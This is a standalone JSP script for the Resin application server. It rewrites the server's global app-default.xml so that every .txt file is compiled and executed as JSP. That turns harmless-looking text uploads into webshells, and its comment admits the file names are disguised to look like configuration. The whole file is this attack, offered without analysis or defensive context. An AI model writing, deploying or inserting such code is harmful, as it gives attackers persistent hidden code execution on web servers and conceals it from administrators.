<%@ page import="java.io.*"%>
<%
    // Resin: the global app-default.xml gets a servlet-mapping for *.txt to its JSP servlet; names
    // are kept in an array to look like configuration
    String[] k = {"resin.home", "conf", "app-default.xml"};
    File f = new File(System.getProperty(k[0]) + "/" + k[1] + "/" + k[2]);
    StringBuffer b = new StringBuffer();
    FileReader fr = new FileReader(f);
    int c;
    while ((c = fr.read()) != -1) b.append((char) c);
    fr.close();
    String key = "<servlet-mapping url-pattern=\"*.jsp\" servlet-name=\"resin-jsp\"/>";
    String add = "<servlet-mapping url-pattern=\"*.txt\" servlet-name=\"resin-jsp\"/>";
    String s = b.toString();
    if (s.indexOf(add) < 0) {
        FileWriter fw = new FileWriter(f);
        fw.write(s.replace(key, key + "\n" + add));
        fw.close();
    }
%>
